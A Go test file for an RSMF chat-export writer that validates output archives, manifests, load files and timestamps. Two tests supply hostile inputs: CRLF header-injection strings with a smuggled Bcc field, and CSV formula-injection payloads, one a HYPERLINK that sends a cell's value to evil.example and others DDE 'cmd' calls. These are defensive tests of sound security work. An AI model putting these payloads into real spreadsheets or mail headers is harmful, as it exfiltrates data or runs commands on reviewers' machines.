package rsmf

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net/mail"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/chatvault/chatvault/internal/exporttest"
	"github.com/chatvault/chatvault/internal/reliability"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func fixtureDays(t testing.TB) []exporttest.Day { return exporttest.Fixture(t) }

func testOptions(t testing.TB) Options {
	return Options{Org: "org-acme", OrgName: "Acme", TaskID: "3f6c1a2e-7d4b-4c8e-9a1f-0b2c3d4e5f60", TempDir: t.TempDir()}
}

func produce(t testing.TB, days []exporttest.Day, opt Options, tune func(*Writer)) []byte {
	t.Helper()
	var out bytes.Buffer
	w, err := NewWriter(&out, opt)
	if err != nil {
		t.Fatal(err)
	}
	if tune != nil {
		tune(w)
	}
	for _, d := range days {
		if err := w.WriteDay(context.Background(), d.Manifest, d.Next()); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// rsmfFile is one parsed .rsmf.
type rsmfFile struct {
	path     string
	raw      []byte
	header   mail.Header
	text     string
	manifest []byte
	names    []string // files inside rsmf.zip
	inner    map[string][]byte
}

// production is a parsed output archive.
type production struct {
	entries []string
	files   []rsmfFile
	load    [][]string
	export  []byte
}

func parseProduction(t testing.TB, b []byte) production {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatalf("output is not a ZIP: %v", err)
	}
	var p production
	for _, zf := range zr.File {
		p.entries = append(p.entries, zf.Name)
		data := readZipFile(t, zf)
		switch {
		case zf.Name == "loadfile.csv":
			p.load, err = csv.NewReader(bytes.NewReader(data)).ReadAll()
			if err != nil {
				t.Fatalf("loadfile.csv: %v", err)
			}
		case zf.Name == "export.json":
			p.export = data
		case strings.HasSuffix(zf.Name, ".rsmf"):
			p.files = append(p.files, parseRSMF(t, zf.Name, data))
		default:
			t.Errorf("unexpected entry %s", zf.Name)
		}
	}
	return p
}

func readZipFile(t testing.TB, zf *zip.File) []byte {
	t.Helper()
	rc, err := zf.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	data, err := io.ReadAll(rc)
	if err != nil {
		t.Fatalf("%s: %v", zf.Name, err)
	}
	return data
}

// parseRSMF reads a .rsmf as a mail reader would: net/mail for the envelope,
// mime/multipart for the parts.
func parseRSMF(t testing.TB, path string, data []byte) rsmfFile {
	t.Helper()
	f := rsmfFile{path: path, raw: data}
	msg, err := mail.ReadMessage(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s: not an RFC 5322 message: %v", path, err)
	}
	f.header = msg.Header
	if v := msg.Header.Get("X-RSMF-Version"); v != "2.0.0" {
		t.Errorf("%s: X-RSMF-Version %q", path, v)
	}
	mt, params, err := mime.ParseMediaType(msg.Header.Get("Content-Type"))
	if err != nil || mt != "multipart/mixed" {
		t.Fatalf("%s: content type %q: %v", path, mt, err)
	}
	mr := multipart.NewReader(msg.Body, params["boundary"])
	for {
		part, err := mr.NextRawPart()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		ct, _, _ := mime.ParseMediaType(part.Header.Get("Content-Type"))
		var body io.Reader = part
		switch part.Header.Get("Content-Transfer-Encoding") {
		case "quoted-printable":
			body = quotedprintable.NewReader(part)
		case "base64":
			body = base64.NewDecoder(base64.StdEncoding, part)
		}
		content, err := io.ReadAll(body)
		if err != nil {
			t.Fatalf("%s: part %s: %v", path, ct, err)
		}
		switch ct {
		case "text/plain":
			f.text = string(content)
		case "application/zip":
			if _, params, _ := mime.ParseMediaType(part.Header.Get("Content-Disposition")); params["filename"] != "rsmf.zip" {
				t.Errorf("%s: zip part named %q", path, params["filename"])
			}
			zr, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
			if err != nil {
				t.Fatalf("%s: rsmf.zip: %v", path, err)
			}
			for _, zf := range zr.File {
				f.names = append(f.names, zf.Name)
				if zf.Name == ManifestName {
					f.manifest = readZipFile(t, zf)
				} else {
					if f.inner == nil {
						f.inner = map[string][]byte{}
					}
					f.inner[zf.Name] = readZipFile(t, zf)
				}
			}
		default:
			t.Errorf("%s: unexpected part %s", path, ct)
		}
	}
	if f.manifest == nil {
		t.Fatalf("%s: no %s in rsmf.zip", path, ManifestName)
	}
	return f
}

func loadSchema(t testing.TB) *jsonschema.Schema {
	t.Helper()
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	// The validator knows "email" but not the schema's "idn-email"; check it as an address
	// net/mail accepts, which is at least as strict for the addresses we write.
	c.RegisterFormat(&jsonschema.Format{Name: "idn-email", Validate: func(v any) error {
		s, ok := v.(string)
		if !ok {
			return nil
		}
		if a, err := mail.ParseAddress(s); err != nil || a.Address != s {
			return fmt.Errorf("%q is not an email address", s)
		}
		return nil
	}})
	s, err := c.Compile(filepath.Join("testdata", "rsmf_schema_2_0_0.json"))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// checkProduction validates every manifest against the published schema, checks every
// reference inside it, and checks the load file against the files.
func checkProduction(t testing.TB, p production) {
	t.Helper()
	schema := loadSchema(t)
	for _, f := range p.files {
		inst, err := jsonschema.UnmarshalJSON(bytes.NewReader(f.manifest))
		if err != nil {
			t.Fatalf("%s: %v", f.path, err)
		}
		if err := schema.Validate(inst); err != nil {
			t.Errorf("%s: schema: %v", f.path, err)
		}
		var m manifest
		if err := json.Unmarshal(f.manifest, &m); err != nil {
			t.Fatal(err)
		}
		for _, err := range references(&m, f.names) {
			t.Errorf("%s: %v", f.path, err)
		}
		if got := f.header.Get("X-RSMF-EventCount"); got != strconv.Itoa(len(m.Events)) {
			t.Errorf("%s: X-RSMF-EventCount %s, manifest has %d events", f.path, got, len(m.Events))
		}
	}
	if len(p.load) != len(p.files)+1 {
		t.Fatalf("load file has %d rows for %d files", len(p.load)-1, len(p.files))
	}
	if !slices.Equal(p.load[0], loadHeader) {
		t.Errorf("load file header %v", p.load[0])
	}
	byPath := map[string]rsmfFile{}
	for _, f := range p.files {
		byPath[f.path] = f
	}
	for _, row := range p.load[1:] {
		f, ok := byPath[row[7]]
		if !ok {
			t.Errorf("load file row %s names a missing path %s", row[0], row[7])
			continue
		}
		sum := sha256.Sum256(f.raw)
		if row[6] != hex.EncodeToString(sum[:]) {
			t.Errorf("load file row %s: SHA-256 differs from %s's", row[0], row[7])
		}
		if want := "<" + row[0] + "@chatvault>"; f.header.Get("Message-ID") != want {
			t.Errorf("%s: Message-ID %q, load file DocID %s", row[7], f.header.Get("Message-ID"), row[0])
		}
	}
}

// references returns every dangling reference of a manifest: ids must be unique and every
// participant, conversation and parent an event names must exist.
func references(m *manifest, files []string) []error {
	var errs []error
	parts := map[string]bool{}
	for _, p := range m.Participants {
		if parts[p.ID] {
			errs = append(errs, fmt.Errorf("participant %s defined twice", p.ID))
		}
		parts[p.ID] = true
	}
	convs := map[string]bool{}
	for _, c := range m.Conversations {
		convs[c.ID] = true
		for _, p := range c.Participants {
			if !parts[p] {
				errs = append(errs, fmt.Errorf("conversation %s: unknown participant %s", c.ID, p))
			}
		}
	}
	ids := map[string]string{} // event id → conversation
	for _, e := range m.Events {
		if e.ID == "" {
			continue
		}
		if _, dup := ids[e.ID]; dup {
			errs = append(errs, fmt.Errorf("event id %s used twice", e.ID))
		}
		ids[e.ID] = e.Conversation
	}
	for i, e := range m.Events {
		if !convs[e.Conversation] {
			errs = append(errs, fmt.Errorf("event %d: unknown conversation %q", i, e.Conversation))
		}
		if e.Participant != "" && !parts[e.Participant] {
			errs = append(errs, fmt.Errorf("event %d: unknown participant %q", i, e.Participant))
		}
		if e.Parent != "" && ids[e.Parent] != e.Conversation {
			errs = append(errs, fmt.Errorf("event %d: parent %q is not an event of its conversation", i, e.Parent))
		}
		for _, a := range e.Attachments {
			if !slices.Contains(files, a.ID) {
				errs = append(errs, fmt.Errorf("event %d: attachment %q is not in rsmf.zip", i, a.ID))
			}
		}
		for _, ed := range e.Edits {
			if !parts[ed.Participant] {
				errs = append(errs, fmt.Errorf("event %d: edit by unknown participant %q", i, ed.Participant))
			}
		}
	}
	if !slices.Contains(files, ManifestName) {
		errs = append(errs, errors.New("rsmf.zip has no manifest"))
	}
	return errs
}

// render is the golden form of a production: every entry's readable content (headers,
// text body, manifest), not the compressed bytes.
func render(t testing.TB, p production) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "== entries\n%s\n", strings.Join(p.entries, "\n"))
	for _, f := range p.files {
		head, _, _ := bytes.Cut(f.raw, []byte("\r\n\r\n"))
		fmt.Fprintf(&b, "\n== %s: headers\n%s\n", f.path, bytes.ReplaceAll(head, []byte("\r\n"), []byte("\n")))
		fmt.Fprintf(&b, "\n== %s: text/plain\n%s", f.path, strings.ReplaceAll(f.text, "\r\n", "\n"))
		var pretty bytes.Buffer
		if err := json.Indent(&pretty, f.manifest, "", "  "); err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&b, "\n== %s: rsmf.zip %v, %s\n%s", f.path, f.names, ManifestName, pretty.String())
	}
	var load bytes.Buffer
	cw := csv.NewWriter(&load)
	cw.WriteAll(p.load)
	fmt.Fprintf(&b, "\n== loadfile.csv\n%s\n== export.json\n%s", load.String(), p.export)
	return b.Bytes()
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		gl, wl := strings.Split(string(got), "\n"), strings.Split(string(want), "\n")
		for i := range min(len(gl), len(wl)) {
			if gl[i] != wl[i] {
				t.Fatalf("%s differs at line %d:\n got: %s\nwant: %s\n(run with -update if the change is intended)", path, i+1, gl[i], wl[i])
			}
		}
		t.Fatalf("%s differs in length: %d lines, want %d", path, len(gl), len(wl))
	}
}

func TestGolden(t *testing.T) {
	out := produce(t, fixtureDays(t), testOptions(t), nil)
	p := parseProduction(t, out)
	checkProduction(t, p)
	golden(t, "golden.txt", render(t, p))
	// Deterministic: the same input gives the same bytes.
	if again := produce(t, fixtureDays(t), testOptions(t), nil); !bytes.Equal(out, again) {
		t.Error("a second production of the same days differs")
	}
}

// TestMapping checks the RSMF meaning of each chat variant, independently of the golden file.
func TestMapping(t *testing.T) {
	p := parseProduction(t, produce(t, fixtureDays(t), testOptions(t), nil))
	events := map[string]map[string]event{} // DocID → event id → event
	byChatDay := map[string]manifest{}
	for _, f := range p.files {
		var m manifest
		if err := json.Unmarshal(f.manifest, &m); err != nil {
			t.Fatal(err)
		}
		byChatDay[m.Conversations[0].ID+" "+f.header.Get("X-Chatvault-Source-Date")] = m
		ev := map[string]event{}
		for _, e := range m.Events {
			ev[e.ID] = e
		}
		events[f.path] = ev
	}
	if len(p.files) != 3 {
		t.Fatalf("%d files, want 3 (team on both days, injection on the first)", len(p.files))
	}
	find := func(chatDay, id string) event {
		t.Helper()
		m, ok := byChatDay[chatDay]
		if !ok {
			t.Fatalf("no file for %s", chatDay)
		}
		for _, e := range m.Events {
			if e.ID == id {
				return e
			}
		}
		t.Fatalf("%s: no event %s", chatDay, id)
		return event{}
	}
	d1, d2 := "chat-team 2026-11-21", "chat-team 2026-11-22"
	m1 := find(d1, "m-001")
	if m1.Body != "Morning! Report attached (v2)." || len(m1.Edits) != 1 || m1.Edits[0].Previous == nil ||
		*m1.Edits[0].Previous != "Morning! Report attached." || m1.Edits[0].New != m1.Body {
		t.Errorf("edited message: %+v", m1)
	}
	if e := find(d1, "m-002"); e.Parent != "m-001" {
		t.Errorf("thread reply's parent %q, want m-001", e.Parent)
	}
	if e := find(d1, "m-004"); !e.Deleted || e.Body != "https://tracker.example/items/42" {
		t.Errorf("deleted item: %+v", e)
	}
	if e := find(d1, "m-006/join/u-grace"); e.Type != "join" || e.Participant != "u-grace" {
		t.Errorf("join: %+v", e)
	}
	if e := find(d1, "m-006/leave/o-guest"); e.Type != "leave" || e.Participant != "o-guest" {
		t.Errorf("leave: %+v", e)
	}
	if e := find(d2, "m-005"); len(e.Edits) != 1 || e.Edits[0].Previous != nil || e.Body != `fmt.Println("edited")` {
		t.Errorf("edit of an earlier day's message: %+v", e)
	}
	if e := find(d2, "m-002"); !e.Deleted || e.Body != "Standup starts in 5 minutes" {
		t.Errorf("deletion of an earlier day's message: %+v", e)
	}
	if e := find(d2, "m-202"); e.Parent != "" {
		t.Errorf("reply to an earlier day's message has parent %q, which is not in the file", e.Parent)
	}
	if e := find(d2, "m-203"); e.Parent != "m-201" {
		t.Errorf("reply m-203 parent %q, want m-201", e.Parent)
	}
	for _, p := range byChatDay["chat-injection 2026-11-21"].Participants {
		if p.ID == "u-evil" && p.Email != "" {
			t.Errorf("an address that does not parse went into the email field: %q", p.Email)
		}
	}
}

// TestSplitLargeChatDay cuts chat-days into files of at most a few events: each part
// validates on its own, they share an event collection id, and no event is lost.
func TestSplitLargeChatDay(t *testing.T) {
	days := fixtureDays(t)
	p := parseProduction(t, produce(t, days, testOptions(t), func(w *Writer) { w.maxFile = 2 }))
	checkProduction(t, p)
	collections := map[string]int{}
	for _, f := range p.files {
		if id := f.header.Get("X-RSMF-EventCollectionID"); id != "" {
			collections[id]++
		}
	}
	if collections["chat-team/2026-11-21"] < 3 {
		t.Errorf("collections %v: the first day's team chat should span several files", collections)
	}
	whole := parseProduction(t, produce(t, days, testOptions(t), nil))
	if a, b := countEvents(t, p), countEvents(t, whole); a != b {
		t.Errorf("split production has %d events, whole one %d", a, b)
	}
}

func countEvents(t *testing.T, p production) int {
	n := 0
	for _, f := range p.files {
		var m manifest
		if err := json.Unmarshal(f.manifest, &m); err != nil {
			t.Fatal(err)
		}
		n += len(m.Events)
	}
	return n
}

// TestHeadersSafe: a chat id or organization name with line breaks must not inject
// header fields; the envelope must still parse and keep one X-RSMF-Version.
func TestHeadersSafe(t *testing.T) {
	days := fixtureDays(t)
	for i := range days[0].Events {
		days[0].Events[i].ChatID = "chat\r\nX-RSMF-Version: 9.9.9\r\n\r\nbody"
	}
	opt := testOptions(t)
	opt.OrgName = "Acme\r\nBcc: everyone@example.com"
	p := parseProduction(t, produce(t, days[:1], opt, nil))
	checkProduction(t, p)
	for _, f := range p.files {
		if got := f.header["X-Rsmf-Version"]; len(got) != 1 || got[0] != "2.0.0" {
			t.Errorf("%s: X-RSMF-Version %v", f.path, got)
		}
		if f.header.Get("Bcc") != "" {
			t.Errorf("%s: a Bcc header was injected", f.path)
		}
	}
	reliability.Record(t, "security", "rsmf export: line breaks in chat id and organization name", reliability.Kept,
		"encoded as RFC 2047 words; no header injected; manifests valid")
}

func TestSpillFailureFailsCleanly(t *testing.T) {
	var out bytes.Buffer
	opt := testOptions(t)
	w, err := NewWriter(&out, opt)
	if err != nil {
		t.Fatal(err)
	}
	w.opt.TempDir = filepath.Join(opt.TempDir, "missing")
	// Enough records to exceed the sort budget, so the day must spill.
	next := exporttest.Oversized(2 * sortMemory >> 16)
	err = w.WriteDay(context.Background(), exporttest.Manifest("2026-11-21"), next)
	if err == nil || !strings.Contains(err.Error(), "rsmf: day 2026-11-21") {
		t.Fatalf("WriteDay = %v, want an error naming the day", err)
	}
	reliability.Record(t, "fault", "rsmf export: spill folder missing", reliability.CleanFailure,
		"WriteDay fails naming the day; the task fails")
}

func TestCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	w, err := NewWriter(io.Discard, testOptions(t))
	if err != nil {
		t.Fatal(err)
	}
	d := fixtureDays(t)[0]
	if err := w.WriteDay(ctx, d.Manifest, d.Next()); !errors.Is(err, context.Canceled) {
		t.Fatalf("WriteDay after cancel = %v", err)
	}
}

// TestSchemaRejects shows the validator and the reference checks do reject what they must,
// so the passing checks above mean something.
func TestSchemaRejects(t *testing.T) {
	schema := loadSchema(t)
	for _, bad := range []string{
		`{"version":"2.0.0","participants":[],"conversations":[],"events":[{"type":"edit"}]}`,
		`{"version":"2.0.0","participants":[{"id":"p","email":"not an email"}],"conversations":[],"events":[]}`,
		`{"version":"2.0.0","participants":[],"conversations":[{"id":"c","platform":"x","participants":[],"custom":[{"name":"n","value":""}]}],"events":[]}`,
		`{"participants":[],"conversations":[],"events":[]}`,
		`{"version":"2.0.0","participants":[],"conversations":[],"events":[{"type":"message","timestamp":"yesterday"}]}`,
	} {
		inst, err := jsonschema.UnmarshalJSON(strings.NewReader(bad))
		if err != nil {
			t.Fatal(err)
		}
		if schema.Validate(inst) == nil {
			t.Errorf("schema accepted %s", bad)
		}
	}
	m := manifest{Participants: []participant{{ID: "p"}}, Conversations: []conversation{{ID: "c", Participants: []string{"p", "q"}}},
		Events: []event{{ID: "e", Conversation: "c", Participant: "r", Parent: "x"}, {ID: "e", Conversation: "d"}}}
	if errs := references(&m, nil); len(errs) != 6 {
		t.Errorf("references found %d problems, want 6: %v", len(errs), errs)
	}
}

// TestSynthDay runs a realistic generated day (bots, guests, threads, edits of earlier
// days' messages, escaping-heavy text, large pastes) through the writer and validates every file.
func TestSynthDay(t *testing.T) {
	if testing.Short() {
		t.Skip("generates a day")
	}
	files := exporttest.Synth(t, "2026-11-22", 10_000)
	var out bytes.Buffer
	w, err := NewWriter(&out, testOptions(t))
	if err != nil {
		t.Fatal(err)
	}
	if err := w.WriteDay(context.Background(), exporttest.Manifest("2026-11-22"), exporttest.Stream(t, files)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	p := parseProduction(t, out.Bytes())
	checkProduction(t, p)
	if len(p.files) < 10 {
		t.Errorf("only %d files for a generated day", len(p.files))
	}
}

// TestLoadFileFormulasNeutralized: loadfile.csv is opened in spreadsheets by review teams.
// A display name, organization name or chat id that starts like a formula must arrive as
// text (OWASP's CSV injection advice: a leading single quote), in every cell and in every
// name of the Participants list, whose "; " a spreadsheet may take for a separator.
func TestLoadFileFormulasNeutralized(t *testing.T) {
	days := fixtureDays(t)
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"}
	for i := range days[0].Events {
		e := &days[0].Events[i]
		e.Sender.DisplayName = hostile[i%len(hostile)]
		e.ChatID = hostile[(i/3)%len(hostile)] + e.ChatID
	}
	opt := testOptions(t)
	opt.OrgName = "=cmd|' /C calc'!A0"
	p := parseProduction(t, produce(t, days[:1], opt, nil))
	if len(p.load) < 2 {
		t.Fatalf("loadfile.csv has %d rows", len(p.load))
	}
	dangerous := func(s string) bool { return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) }
	quoted := 0
	for _, row := range p.load[1:] {
		for i, cell := range row {
			if dangerous(cell) {
				t.Errorf("%s %q starts like a formula", p.load[0][i], cell)
			}
			parts := []string{cell}
			if p.load[0][i] == "Participants" {
				parts = strings.Split(cell, "; ")
			}
			for _, part := range parts {
				if rest, ok := strings.CutPrefix(part, "'"); ok && dangerous(rest) {
					quoted++
				} else if dangerous(part) {
					t.Errorf("%s: %q starts like a formula", p.load[0][i], part)
				}
			}
		}
		if row[1] != "'"+opt.OrgName {
			t.Errorf("Custodian %q, want %q", row[1], "'"+opt.OrgName)
		}
	}
	if quoted == 0 {
		t.Fatal("no neutralized cell found: the test's hostile names did not reach loadfile.csv")
	}
	// The .rsmf files themselves keep the names verbatim: they are evidence, not a sheet.
	found := false
	for _, f := range p.files {
		if bytes.Contains(f.manifest, []byte(`"display": "=HYPERLINK(`)) || bytes.Contains(f.manifest, []byte(`"display":"=HYPERLINK(`)) {
			found = true
		}
	}
	if !found {
		t.Error("the .rsmf manifests do not keep the display name verbatim")
	}
	reliability.Record(t, "security", "rsmf export: display name, organization name or chat id starting with = + - @ tab CR", reliability.Kept,
		"loadfile.csv cells prefixed with ' (OWASP); .rsmf keeps the name verbatim")
}

// TestTimesAreTheSealedDays: a day's .rsmf files carry that day's sealing time, the
// load file and export.json the latest one; nothing carries the clock of the process
// that writes the production, so the same task gives the same bytes on any replica.
func TestTimesAreTheSealedDays(t *testing.T) {
	days := fixtureDays(t)
	sealed := map[string]time.Time{}
	var latest time.Time
	for _, d := range days {
		sealed[d.Manifest.Date] = d.Manifest.SealedTime()
		if sealed[d.Manifest.Date].After(latest) {
			latest = sealed[d.Manifest.Date]
		}
	}
	if latest.IsZero() || len(sealed) < 2 || sealed[days[0].Manifest.Date].Equal(latest) {
		t.Fatalf("fixture: want days sealed at different times: %v", sealed)
	}
	out := produce(t, days, testOptions(t), nil)
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		want := latest
		if date, _, ok := strings.Cut(zf.Name, "/"); ok {
			want = sealed[date]
		}
		if !zf.Modified.Equal(want.Truncate(time.Second)) {
			t.Errorf("%s modified %v, want %v", zf.Name, zf.Modified, want)
		}
	}
	var info struct {
		SealedAsOf string `json:"sealedAsOf"`
	}
	if err := json.Unmarshal(parseProduction(t, out).export, &info); err != nil {
		t.Fatal(err)
	}
	if info.SealedAsOf != latest.Format(time.RFC3339) {
		t.Errorf("export.json sealedAsOf %q, want %s", info.SealedAsOf, latest.Format(time.RFC3339))
	}
}

var transcriptTimeRE = regexp.MustCompile(`^ *(?:edited |deleted )?(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z) \((-?\d+)\)`)

// TestTimesBesideEpoch: the transcript a reviewer reads gives every event's time in RFC 3339
// UTC with the record's epoch milliseconds beside it, and the manifest's events carry the
// epoch values as custom properties beside their RFC 3339 timestamps.
func TestTimesBesideEpoch(t *testing.T) {
	p := parseProduction(t, produce(t, fixtureDays(t), testOptions(t), nil))
	lines := 0
	for _, f := range p.files {
		_, body, _ := strings.Cut(strings.ReplaceAll(f.text, "\r\n", "\n"), "\n\n")
		for _, line := range strings.Split(strings.TrimRight(body, "\n"), "\n") {
			if strings.HasPrefix(line, "  | ") {
				continue // the next line of a message's text
			}
			m := transcriptTimeRE.FindStringSubmatch(line)
			if m == nil {
				t.Errorf("%s: transcript line without its RFC 3339 time and epoch: %q", f.path, line)
				continue
			}
			at, err := time.Parse(time.RFC3339, m[1])
			ms, _ := strconv.ParseInt(m[2], 10, 64)
			if err != nil || at.UnixMilli() != ms {
				t.Errorf("%s: %q: %s is not %s", f.path, line, m[1], m[2])
			}
			lines++
		}
		var man manifest
		if err := json.Unmarshal(f.manifest, &man); err != nil {
			t.Fatal(err)
		}
		for _, ev := range man.Events {
			var epoch string
			for _, c := range ev.Custom {
				if c.Name == "Timestamp (epoch ms)" {
					epoch = c.Value
				}
			}
			at, err := time.Parse(time.RFC3339, ev.Timestamp)
			if ms, _ := strconv.ParseInt(epoch, 10, 64); err != nil || at.UnixMilli() != ms || !strings.HasSuffix(ev.Timestamp, "Z") {
				t.Errorf("%s: event %s at %q has epoch %q", f.path, ev.ID, ev.Timestamp, epoch)
			}
		}
	}
	if lines < 10 {
		t.Fatalf("only %d transcript lines", lines)
	}
	if !strings.Contains(strings.ReplaceAll(p.files[1].text, "\r\n", "\n"), "2026-11-21T09:00:00.000Z (1795251600000) Ada Lovelace: Morning! Report attached (v2).\n"+
		"    edited 2026-11-21T09:06:00.000Z (1795251960000) by Ada Lovelace: Morning! Report attached (v2).") {
		t.Errorf("team chat transcript:\n%s", p.files[1].text)
	}
	reliability.Record(t, "input", "rsmf export: times a reviewer reads", reliability.Kept,
		"RFC 3339 in UTC with the record's epoch milliseconds beside them, in the transcript and as custom properties")
}
